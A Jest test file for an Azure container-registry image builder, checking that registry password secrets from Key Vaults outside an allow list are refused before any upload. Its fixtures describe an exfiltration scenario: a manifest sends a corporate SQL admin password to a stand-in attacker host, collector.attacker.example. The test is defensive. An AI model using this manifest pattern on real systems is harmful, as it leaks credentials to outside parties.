/**
 * Bad-input class: `image.base_image_registry.password_secret` naming a Key Vault the operator did not allow. ACR
 * Tasks reads that secret with the app's identity and sends it as the password to the registry the manifest names
 * (any host): without a check, a manifest could have any secret the identity can read sent to a registry of the
 * user's choosing. The build is refused (400 `KeyVaultNotAllowed`) before anything is uploaded or scheduled; an
 * allowed vault builds as before. At the wire (nock: a call not expected here fails the test).
 */
import { AcrTaskImageBuilder } from '../../shared/azure/acr-builder';
import type { ImageBuildRequest } from '../../shared/seams';
import { FAST, arm, captureLog, memoryBlobs, q, rgPath, setupNock, testClients, testConfig, nock } from '../azure/helpers';

const TASKS_API = '2019-06-01-preview';
const REG = rgPath('Microsoft.ContainerRegistry', 'registries/mdfregistry');
const request: ImageBuildRequest = {
  name: 'DiabetesImage',
  version: 3,
  runtime: 'python',
  contextBlob: 'images/DiabetesImage/3.tar.gz',
  contextDigest: 'sha256:abc',
  baseImage: 'collector.attacker.example/base/python:3.11',
};

function makeBuilder(env: Record<string, string> = {}) {
  const blobs = memoryBlobs({ [request.contextBlob]: Buffer.from('ctx') });
  return new AcrTaskImageBuilder({ clients: testClients(), config: testConfig(env), blobs, timing: FAST, log: captureLog().log });
}

describe('base_image_registry.password_secret', () => {
  setupNock();

  test('a vault not in ALLOWED_KEY_VAULTS is refused before any upload or run; nothing is sent to the registry', async () => {
    const other = { address: 'collector.attacker.example', username: 'x', passwordSecret: 'https://corp-prod.vault.azure.net/secrets/sql-admin-password' };
    await expect(makeBuilder().build({ ...request, baseImageRegistry: other })).rejects.toMatchObject({ code: 'KeyVaultNotAllowed', httpStatus: 400 });
    // No vault allowed at all: every password_secret is refused, naming the setting.
    await expect(makeBuilder({ ALLOWED_KEY_VAULTS: '' }).build({ ...request, baseImageRegistry: { ...other, passwordSecret: 'https://kv-mdf.vault.azure.net/secrets/reg' } })).rejects.toMatchObject({
      code: 'KeyVaultNotAllowed',
      message: expect.stringContaining('ALLOWED_KEY_VAULTS'),
    });
    expect(nock.pendingMocks()).toEqual([]);
  });

  test('an allowed vault (any case in the setting) is passed to ACR as before', async () => {
    let body: any;
    arm().post(`${REG}/listBuildSourceUploadUrl`).query(q(TASKS_API)).reply(200, { uploadUrl: 'https://acrtask.blob.core.windows.net/c/ctx.tar.gz?sig=S', relativePath: 'ctx.tar.gz' });
    nock('https://acrtask.blob.core.windows.net').put('/c/ctx.tar.gz').query(true).reply(201, '');
    arm()
      .post(`${REG}/scheduleRun`, (b) => ((body = b), true))
      .query(q(TASKS_API))
      .reply(200, { id: `${REG}/runs/cb1`, name: 'cb1', properties: { runId: 'cb1', status: 'Failed' } });
    arm().get(`${REG}/runs/cb1`).query(true).optionally().reply(200, { id: `${REG}/runs/cb1`, name: 'cb1', properties: { runId: 'cb1', status: 'Failed' } });
    arm().post(`${REG}/runs/cb1/listLogSasUrl`).query(true).optionally().reply(404, {});
    const secret = 'https://team-kv.vault.azure.net/secrets/reg';
    await makeBuilder({ ALLOWED_KEY_VAULTS: 'Team-KV' })
      .build({ ...request, baseImageRegistry: { address: 'collector.attacker.example', username: 'x', passwordSecret: secret } })
      .catch(() => undefined);
    expect(body.credentials.customRegistries['collector.attacker.example'].password).toEqual({ type: 'Vaultsecret', value: secret });
  });
});
